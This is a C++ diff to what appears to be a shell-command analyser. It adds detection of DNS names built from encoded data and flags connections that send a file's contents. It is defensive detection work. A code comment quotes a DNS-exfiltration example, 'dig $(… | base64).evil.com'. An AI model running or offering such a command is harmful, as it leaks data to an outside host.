@@ -11,6 +11,7 @@
 #include "analyse/path_class.h"
 #include "analyse/placed.h"
 #include "analyse/redirected.h"
+#include "analyse/seek.h"
 #include "base/glob.h"
 #include "content/socat.h"
 
@@ -84,6 +85,7 @@ namespace {
     case Role::blob:
     case Role::expression:
     case Role::mode:
+    case Role::sought:
     case Role::mount:
       return false;
   }
@@ -140,6 +142,9 @@ class StepReader {
 
   std::uint8_t read() {
     for (const Argument* argument : all_) take_in(*argument);
+    for (const Argument* argument : all_) {
+      if (argument->role == Role::sought) mark_sought_text(argument->text, first_effect_, context_);
+    }
     const bool decodes = (arguments_.marks & fact_.decodes) != 0;
     if (decodes) sources_ |= from_decoder;
     if (fact_.encodes && !decodes) sources_ |= from_encoder;
@@ -231,6 +236,7 @@ class StepReader {
           take_path(EffectKind::read, argument, argument.text, false, is_shown);
         break;
       case Role::text:
+      case Role::sought:
       case Role::expression:
       case Role::container:
       case Role::words:
@@ -280,6 +286,9 @@ class StepReader {
                            host.find_first_of("$`") == std::string::npos && host.find("…") == std::string::npos &&
                            argument.text.find_first_of("/?#", argument.text.find("://") + 3) != std::string::npos);
     const std::string& name = is_known ? host : argument.text;
+    // `dig $(… | base64).evil.com`: the name itself is the message.
+    if ((argument.word->sources & from_encoder) != 0 && (argument.role == Role::host || !is_known))
+      has_encoded_name_ = true;
     if (has_user_info(argument.text)) is_redirected_ = true;
     if (!name.empty() && std::find(hosts_.begin(), hosts_.end(), name) == hosts_.end()) hosts_.push_back(name);
   }
@@ -305,6 +314,7 @@ class StepReader {
     found |= sources_below(effect.object, context_.scope, context_.world);
     sources_ |= found;
     if (is_sent) sent_ |= found;
+    sends_file_ |= is_sent && kind == EffectKind::read;
     if (argument.role == Role::stage) context_.scope.staged |= found;
   }
 
@@ -489,6 +499,8 @@ class StepReader {
 
   // Each host gets all that goes out: `curl -d @f https://a https://b`.
   void say_connects(Action action, std::uint16_t attributes) {
+    if (has_encoded_name_) attributes |= is_obfuscated;
+    if (sends_file_) attributes |= carries_file;
     for (const std::string& host : hosts_) add_effect(EffectKind::connect, action, host, attributes, context_);
     if (hosts_.empty()) add_effect(EffectKind::connect, action, "", attributes, context_);
   }
@@ -511,6 +523,8 @@ class StepReader {
   std::vector<std::string> hosts_;  // that it speaks to
   std::string refs_;
   bool is_redirected_ = false;
+  bool has_encoded_name_ = false;
+  bool sends_file_ = false;
   bool has_ref_ = false;
   bool has_protected_ref_ = false;
   bool has_mode_ = false;
